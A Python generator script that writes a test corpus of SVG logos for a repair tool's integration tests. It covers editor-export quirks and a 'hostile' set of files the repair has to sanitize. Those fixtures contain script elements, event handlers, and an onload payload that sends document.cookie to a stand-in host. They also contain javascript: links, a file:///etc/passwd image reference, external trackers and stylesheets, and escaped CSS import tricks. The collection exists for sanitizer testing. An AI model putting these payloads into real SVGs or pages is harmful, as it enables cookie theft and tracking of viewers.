#!/usr/bin/env python3
"""Writes the logo-repair corpus: wide, tall, off-centre, editor exports written the way
Adobe Illustrator, Inkscape and Figma write them, and hostile logos. Every file here must be
repaired into a logo that passes every LOGO rule (tests/integration/logo_repair.rs); the
refusals live in refused/. Run from this folder: python3 generate.py"""

import os

BLUE = "#0078D4"
GREEN = "#107C10"
ORANGE = "#D83B01"
PURPLE = "#5C2D91"

logos = {}
refused = {}


def mark(x, y, w, h, color=BLUE, extra=""):
    """A shield-and-bar mark in the box (x, y, w, h)."""
    return (
        f'<rect x="{x}" y="{y}" width="{w}" height="{h}" rx="{min(w, h) / 8:g}" fill="{color}"{extra}/>\n'
        f'  <path d="M{x + w * 0.5:g} {y + h * 0.15:g} L{x + w * 0.8:g} {y + h * 0.3:g} '
        f'V{y + h * 0.55:g} C{x + w * 0.8:g} {y + h * 0.75:g} {x + w * 0.65:g} {y + h * 0.85:g} '
        f'{x + w * 0.5:g} {y + h * 0.9:g} C{x + w * 0.35:g} {y + h * 0.85:g} {x + w * 0.2:g} '
        f'{y + h * 0.75:g} {x + w * 0.2:g} {y + h * 0.55:g} V{y + h * 0.3:g} Z" fill="#FFFFFF"/>'
    )


def plain(view_box, body, attrs=""):
    return f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="{view_box}"{attrs}>\n  {body}\n</svg>\n'


# Wide.
logos["wide-480x240"] = plain("0 0 480 240", mark(40, 20, 400, 200), ' width="480" height="240"')
logos["wide-300x100"] = plain("0 0 300 100", mark(10, 10, 280, 80, GREEN))
logos["wide-1000x200"] = plain("0 0 1000 200", mark(50, 25, 900, 150, ORANGE))
logos["wide-mm-units"] = plain("0 0 120 40", mark(5, 5, 110, 30), ' width="120mm" height="40mm"')
logos["wide-wordmark-bars"] = plain(
    "0 0 600 150",
    "\n  ".join(
        f'<rect x="{30 + i * 70}" y="{25 + (i % 3) * 10}" width="50" height="{100 - (i % 3) * 20}" fill="{BLUE}"/>'
        for i in range(8)
    ),
)
logos["wide-offset-origin"] = plain("-240 -120 480 240", mark(-200, -100, 400, 200, PURPLE))
logos["wide-art-left"] = plain("0 0 400 200", mark(10, 20, 160, 160))
logos["wide-letterboxed"] = plain(
    "0 0 400 200", mark(20, 20, 360, 160, GREEN), ' width="256" height="256"'
)

# Tall.
logos["tall-240x480"] = plain("0 0 240 480", mark(20, 40, 200, 400), ' width="240" height="480"')
logos["tall-100x300"] = plain("0 0 100 300", mark(10, 10, 80, 280, GREEN))
logos["tall-stacked-circles"] = plain(
    "0 0 200 600",
    "\n  ".join(f'<circle cx="100" cy="{100 + i * 200}" r="80" fill="{c}"/>' for i, c in enumerate([BLUE, GREEN, ORANGE])),
)
logos["tall-art-bottom"] = plain("0 0 200 400", mark(30, 220, 140, 160, ORANGE))
logos["tall-pt-units"] = plain("0 0 90 180", mark(5, 10, 80, 160), ' width="90pt" height="180pt"')

# Off-centre and tiny, in a square canvas.
logos["offcentre-top-left"] = plain("0 0 256 256", mark(8, 8, 120, 120))
logos["offcentre-bottom-right"] = plain("0 0 256 256", mark(120, 130, 128, 118, GREEN))
logos["offcentre-tiny"] = plain("0 0 512 512", mark(200, 220, 90, 80, PURPLE))
logos["offcentre-transformed-group"] = plain(
    "0 0 256 256", f'<g transform="translate(90 60) scale(0.6)">{mark(0, 0, 240, 240)}</g>'
)
logos["offcentre-stroke-only"] = plain(
    "0 0 300 300",
    f'<circle cx="90" cy="100" r="60" fill="none" stroke="{BLUE}" stroke-width="16"/>\n'
    f'  <path d="M40 210 H190" stroke="{BLUE}" stroke-width="16" stroke-linecap="round"/>',
)
logos["square-already-fine"] = plain("0 0 256 256", mark(16, 16, 224, 224), ' width="256" height="256"')

# No viewBox.
logos["noviewbox-wide"] = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="320" height="160">\n  {mark(20, 10, 280, 140)}\n</svg>\n'
)
logos["noviewbox-square"] = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="128" height="128">\n  {mark(8, 8, 112, 112, GREEN)}\n</svg>\n'
)
logos["noviewbox-tall-px"] = (
    f'<svg xmlns="http://www.w3.org/2000/svg" width="100px" height="200px">\n  {mark(10, 10, 80, 180, ORANGE)}\n</svg>\n'
)

# Adobe Illustrator (File > Export > SVG and Save As SVG), the way it writes them.
ILLUSTRATOR_HEAD = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    "<!-- Generator: Adobe Illustrator 27.5.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->\n"
)


def illustrator(view_box, body, doctype=True, extra_ns=""):
    w, h = view_box.split()[2:]
    dt = (
        '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
        if doctype
        else ""
    )
    return (
        ILLUSTRATOR_HEAD
        + dt
        + f'<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"{extra_ns} x="0px" y="0px"\n'
        f'\t viewBox="{view_box}" style="enable-background:new {view_box};" xml:space="preserve">\n'
        + body
        + "</svg>\n"
    )


logos["illustrator-export-wide"] = illustrator(
    "0 0 480 240",
    '<style type="text/css">\n\t.st0{fill:#0078D4;}\n\t.st1{fill:#FFFFFF;}\n</style>\n'
    '<g>\n\t<rect x="40" y="20" class="st0" width="400" height="200"/>\n'
    '\t<path class="st1" d="M240,50l100,40v60c0,40-50,60-100,70c-50-10-100-30-100-70V90L240,50z"/>\n</g>\n',
)
logos["illustrator-saveas-pgf"] = illustrator(
    "0 0 300 150",
    '<switch>\n\t<foreignObject requiredExtensions="http://ns.adobe.com/AdobeIllustrator/10.0/" x="0" y="0" width="1" height="1">\n'
    '\t\t<i:pgfRef  xlink:href="#adobe_illustrator_pgf">\n\t\t</i:pgfRef>\n\t</foreignObject>\n'
    '\t<g i:extraneous="self">\n\t\t<rect x="20" y="15" style="fill:#107C10;" width="260" height="120"/>\n'
    '\t\t<circle style="fill:#FFFFFF;" cx="150" cy="75" r="40"/>\n\t</g>\n</switch>\n'
    '<i:pgf  id="adobe_illustrator_pgf">\n\t<![CDATA[\n\teJzsvWmTHbmRIPi9zeo/vP2wNtKsKRUIBIAISjNmfEdVd0vVrZU0o+1tWyunKlMldvNtYGWPtVbG8\n\t]]>\n\t</i:pgf>\n',
    extra_ns=' xmlns:x="http://ns.adobe.com/Extensibility/1.0/" xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/" xmlns:graph="http://ns.adobe.com/Graphs/1.0/"',
)
logos["illustrator-gradient-tall"] = illustrator(
    "0 0 200 400",
    '<linearGradient id="SVGID_1_" gradientUnits="userSpaceOnUse" x1="100" y1="40" x2="100" y2="360">\n'
    '\t<stop  offset="0" style="stop-color:#0078D4"/>\n\t<stop  offset="1" style="stop-color:#5C2D91"/>\n</linearGradient>\n'
    '<rect x="30" y="40" style="fill:url(#SVGID_1_);" width="140" height="320"/>\n',
)
logos["illustrator-metadata-xmp"] = illustrator(
    "0 0 256 256",
    '<metadata><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#">'
    '<rdf:Description rdf:about=""/></rdf:RDF></x:xmpmeta></metadata>\n'
    '<rect x="10" y="40" style="fill:#D83B01;" width="150" height="150"/>\n',
    doctype=False,
)
logos["illustrator-no-doctype-offcentre"] = illustrator(
    "0 0 400 400",
    '<style type="text/css">\n\t.st0{fill:#0078D4;}\n</style>\n<polygon class="st0" points="220,60 380,140 380,300 220,380 "/>\n',
    doctype=False,
)
logos["illustrator-clip-group"] = illustrator(
    "0 0 500 250",
    '<g>\n\t<defs>\n\t\t<rect id="SVGID_2_" x="50" y="25" width="400" height="200"/>\n\t</defs>\n'
    '\t<clipPath id="SVGID_3_">\n\t\t<use xlink:href="#SVGID_2_"  style="overflow:visible;"/>\n\t</clipPath>\n'
    '\t<circle style="clip-path:url(#SVGID_3_);fill:#107C10;" cx="250" cy="125" r="150"/>\n</g>\n',
)

# Inkscape (Plain and Inkscape SVG), the way it writes them.
INKSCAPE_NS = (
    'xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape"\n'
    '   xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"\n'
    '   xmlns="http://www.w3.org/2000/svg"\n'
    '   xmlns:svg="http://www.w3.org/2000/svg"\n'
    '   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"\n'
    '   xmlns:cc="http://creativecommons.org/ns#"\n'
    '   xmlns:dc="http://purl.org/dc/elements/1.1/"'
)


def inkscape(width, height, view_box, body, prefix=""):
    p = prefix
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n'
        "<!-- Created with Inkscape (http://www.inkscape.org/) -->\n\n"
        f"<{p}svg\n   width=\"{width}\"\n   height=\"{height}\"\n   viewBox=\"{view_box}\"\n"
        '   version="1.1"\n   id="svg5"\n   inkscape:version="1.2.2 (b0a8486541, 2022-12-01)"\n'
        '   sodipodi:docname="logo.svg"\n   ' + INKSCAPE_NS + ">\n"
        f'  <sodipodi:namedview\n     id="namedview7"\n     pagecolor="#ffffff"\n     bordercolor="#666666"\n'
        '     borderopacity="1.0"\n     inkscape:showpageshadow="2"\n     inkscape:pageopacity="0.0"\n'
        '     inkscape:pagecheckerboard="0"\n     inkscape:deskcolor="#d1d1d1"\n     inkscape:document-units="mm"\n'
        '     showgrid="false"\n     inkscape:zoom="0.73"\n     inkscape:cx="396"\n     inkscape:cy="561"\n'
        '     inkscape:window-width="1920"\n     inkscape:window-height="1016"\n     inkscape:current-layer="layer1" />\n'
        f'  <{p}defs\n     id="defs2" />\n'
        f'  <{p}metadata id="metadata5"><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format>'
        f'<dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage" /></cc:Work></rdf:RDF></{p}metadata>\n'
        f'  <{p}g\n     inkscape:label="Layer 1"\n     inkscape:groupmode="layer"\n     id="layer1">\n'
        + body.replace("<", f"<{p}").replace(f"<{p}/", f"</{p}")
        + f"  </{p}g>\n</{p}svg>\n"
    )


def ink_path(d, color, ident):
    return (
        f'    <path\n       style="fill:{color};fill-opacity:1;stroke:none;stroke-width:0.264583"\n'
        f'       d="{d}"\n       id="{ident}"\n       sodipodi:nodetypes="ccccc" />\n'
    )


logos["inkscape-a4-mm"] = inkscape(
    "210mm", "297mm", "0 0 210 297", ink_path("m 30,60 h 150 v 120 h -150 z", BLUE, "rect1")
)
logos["inkscape-wide-mm"] = inkscape(
    "160mm", "60mm", "0 0 160 60", ink_path("m 10,10 h 140 v 40 h -140 z", GREEN, "rect2")
)
logos["inkscape-svg-prefix"] = inkscape(
    "100", "100", "0 0 100 100", ink_path("m 5,5 h 50 v 50 h -50 z", ORANGE, "rect3"), prefix="svg:"
)
logos["inkscape-ellipse-offcentre"] = inkscape(
    "512",
    "512",
    "0 0 512 512",
    f'    <ellipse\n       style="fill:{PURPLE};stroke:none"\n       id="path1"\n       cx="320"\n       cy="300"\n       rx="150"\n       ry="120"\n       inkscape:label="mark" />\n',
)
logos["inkscape-transform-layer"] = inkscape(
    "300",
    "150",
    "0 0 300 150",
    f'    <g transform="translate(-20,10)" id="g1" inkscape:label="inner">\n'
    + ink_path("m 60,20 h 200 v 100 h -200 z", BLUE, "rect4")
    + "    </g>\n",
)
logos["inkscape-comments-inside"] = inkscape(
    "200",
    "200",
    "0 0 200 200",
    "    <!-- the mark -->\n" + ink_path("m 20,30 h 120 v 120 h -120 z", GREEN, "rect5"),
)

# Figma (Export > SVG).
logos["figma-frame-wide"] = (
    f'<svg width="480" height="240" viewBox="0 0 480 240" fill="none" xmlns="http://www.w3.org/2000/svg">\n'
    f'<rect x="40" y="20" width="400" height="200" rx="24" fill="url(#paint0_linear_12_3)"/>\n'
    f'<path d="M240 60L320 92V148C320 180 284 204 240 212C196 204 160 180 160 148V92L240 60Z" fill="white"/>\n'
    f'<defs>\n<linearGradient id="paint0_linear_12_3" x1="40" y1="20" x2="440" y2="220" gradientUnits="userSpaceOnUse">\n'
    f'<stop stop-color="#0078D4"/>\n<stop offset="1" stop-color="#5C2D91"/>\n</linearGradient>\n</defs>\n</svg>\n'
)
logos["figma-clip-tall"] = (
    f'<svg width="120" height="240" viewBox="0 0 120 240" fill="none" xmlns="http://www.w3.org/2000/svg">\n'
    f'<g clip-path="url(#clip0_1_2)">\n<circle cx="60" cy="120" r="70" fill="#107C10"/>\n</g>\n'
    f'<defs>\n<clipPath id="clip0_1_2">\n<rect x="10" y="20" width="100" height="200" fill="white"/>\n</clipPath>\n</defs>\n</svg>\n'
)
logos["figma-mask-square-offset"] = (
    f'<svg width="200" height="200" viewBox="0 0 200 200" fill="none" xmlns="http://www.w3.org/2000/svg">\n'
    f'<mask id="mask0_4_1" style="mask-type:alpha" maskUnits="userSpaceOnUse" x="0" y="0" width="140" height="140">\n'
    f'<circle cx="70" cy="70" r="70" fill="#C4C4C4"/>\n</mask>\n<g mask="url(#mask0_4_1)">\n'
    f'<rect width="140" height="140" fill="#D83B01"/>\n</g>\n</svg>\n'
)

# Hostile: scripts, handlers, fetches, HTML, motion, all removed.
logos["hostile-onload"] = plain("0 0 480 240", mark(40, 20, 400, 200), ' onload="fetch(\'https://t.example/p?\'+document.cookie)"')
logos["hostile-script-element"] = plain(
    "0 0 256 256", '<script type="text/javascript"><![CDATA[ alert(document.domain) ]]></script>\n  ' + mark(16, 16, 224, 224)
)
logos["hostile-uppercase-script-and-handlers"] = plain(
    "0 0 300 150",
    '<SCRIPT>alert(1)</SCRIPT>\n  '
    + mark(20, 15, 260, 120, GREEN, ' onclick="steal()" onMouseOver="x()" OnFocus="y()"'),
)
logos["hostile-external-image"] = plain(
    "0 0 256 256",
    '<image href="https://tracker.example/pixel.gif" x="0" y="0" width="1" height="1"/>\n  '
    '<image xlink:href="file:///etc/passwd" width="10" height="10"/>\n  ' + mark(16, 16, 224, 224),
    ' xmlns:xlink="http://www.w3.org/1999/xlink"',
)
logos["hostile-foreignobject-html"] = plain(
    "0 0 400 200",
    '<foreignObject x="0" y="0" width="400" height="200"><div xmlns="http://www.w3.org/1999/xhtml">'
    '<iframe src="https://evil.example/"></iframe></div></foreignObject>\n  ' + mark(20, 20, 360, 160),
)
logos["hostile-animate-set"] = plain(
    "0 0 256 256",
    f'<circle cx="100" cy="100" r="60" fill="{BLUE}">\n    <animate attributeName="r" values="60;70;60" dur="2s" repeatCount="indefinite"/>\n'
    '    <set attributeName="fill" to="red" begin="1s"/>\n  </circle>\n'
    f'  <rect x="60" y="170" width="80" height="40" fill="{BLUE}">\n    <animateTransform attributeName="transform" type="rotate" from="0" to="360" dur="3s"/>\n  </rect>',
)
logos["hostile-css-animation"] = plain(
    "0 0 256 256",
    "<style>@keyframes spin{to{transform:rotate(360deg)}} .s{animation:spin 2s infinite;fill:#0078D4}</style>\n  "
    '<rect class="s" x="28" y="28" width="200" height="200" style="transition: fill 1s; fill:#0078D4"/>',
)
logos["hostile-javascript-link"] = plain(
    "0 0 480 240",
    f'<a href="javascript:alert(1)"><rect x="40" y="20" width="400" height="200" fill="{GREEN}"/></a>\n'
    f'  <a xlink:href="https://phish.example/"><circle cx="240" cy="120" r="60" fill="#FFFFFF"/></a>',
    ' xmlns:xlink="http://www.w3.org/1999/xlink"',
)
logos["hostile-css-import-and-urls"] = plain(
    "0 0 300 300",
    '<style>@import url("https://fonts.example.net/brand.css");\n'
    '    .a{fill:#0078D4;background:u\\72l(https://t.example/b.png)}</style>\n  '
    '<rect class="a" x="30" y="30" width="240" height="240" cursor="url(https://t.example/c.cur), auto"/>',
)
logos["hostile-xml-stylesheet"] = (
    '<?xml version="1.0"?>\n<?xml-stylesheet href="https://evil.example/s.css" type="text/css"?>\n'
    + plain("0 0 400 100", mark(10, 10, 380, 80, PURPLE))
)
logos["hostile-external-use-and-filter"] = plain(
    "0 0 256 256",
    '<use href="https://evil.example/sprite.svg#icon" x="0" y="0"/>\n  ' + mark(16, 16, 224, 224),
)
logos["hostile-everything-at-once"] = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
    "<!-- exported by hand -->\n"
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="480" height="240" viewBox="0 0 480 240" onload="track()">\n'
    '  <style>@import url("https://fonts.example.net/brand.css");</style>\n'
    '  <script>track()</script>\n'
    f'  <rect x="40" y="20" width="400" height="200" rx="24" fill="{BLUE}" onmouseover="x()"/>\n'
    '  <image xlink:href="shield.png" x="24" y="24" width="192" height="192"/>\n'
    '  <circle cx="420" cy="60" r="12" fill="#FFFFFF">\n'
    '    <animate attributeName="r" values="12;16;12" dur="2s" repeatCount="indefinite"/>\n'
    "  </circle>\n"
    '  <foreignObject width="10" height="10"><p xmlns="http://www.w3.org/1999/xhtml">hi</p></foreignObject>\n'
    "</svg>\n"
)

# Refused: the repair cannot keep what the logo shows, or cannot know what the artwork is.
refused["stretched-none"] = plain(
    "0 0 200 100", mark(10, 10, 180, 80), ' width="256" height="256" preserveAspectRatio="none"'
)
refused["sliced"] = plain(
    "0 0 200 100", mark(10, 10, 180, 80), ' width="256" height="256" preserveAspectRatio="xMidYMid slice"'
)
refused["blank"] = plain("0 0 256 256", '<rect width="256" height="256" fill="none"/>')
refused["entities"] = (
    '<?xml version="1.0"?>\n<!DOCTYPE svg [ <!ENTITY ns_ai "http://ns.adobe.com/AdobeIllustrator/10.0/"> ]>\n'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:i="&ns_ai;" viewBox="0 0 100 100"><rect width="80" height="80" fill="#0078D4"/></svg>\n'
)
refused["not-svg"] = "<html><body>not a logo</body></html>\n"
refused["no-size"] = '<svg xmlns="http://www.w3.org/2000/svg"><rect width="80" height="80" fill="#0078D4"/></svg>\n'
# A style rule that selects on an event handler: removing the handler changes the colour.
refused["style-selects-a-handler"] = plain(
    "0 0 256 256",
    '<style>rect{fill:#0078D4} rect[onclick]{fill:#D83B01}</style>\n  <rect x="16" y="16" width="224" height="224" onclick="go()"/>',
)
# A filter from another file: the renderer draws the element unfiltered, before and after.
logos["hostile-external-filter"] = plain(
    "0 0 256 256",
    f'<rect x="16" y="16" width="224" height="224" fill="{BLUE}"/>\n  <circle cx="128" cy="128" r="80" fill="#FFFFFF" filter="url(https://evil.example/f.svg#blur)"/>',
)
# An escaped at-rule the renderer's style sheet reader stops at: the original draws its rule
# unstyled (black), the repaired logo blue, and the proof says so.
refused["escaped-import-misread"] = plain(
    "0 0 300 300",
    '<style>@\\69mport "x.css";\n    .a{fill:#0078D4}</style>\n  <rect class="a" x="30" y="30" width="240" height="240"/>',
)
refused["tiny-in-huge-canvas"] = plain("0 0 5000 5000", mark(2400, 2400, 100, 100))

here = os.path.dirname(os.path.abspath(__file__))
for folder, table in (("repairable", logos), ("refused", refused)):
    os.makedirs(os.path.join(here, folder), exist_ok=True)
    for name, text in table.items():
        with open(os.path.join(here, folder, name + ".svg"), "w", encoding="utf-8") as f:
            f.write(text)
print(len(logos), "repairable,", len(refused), "refused")
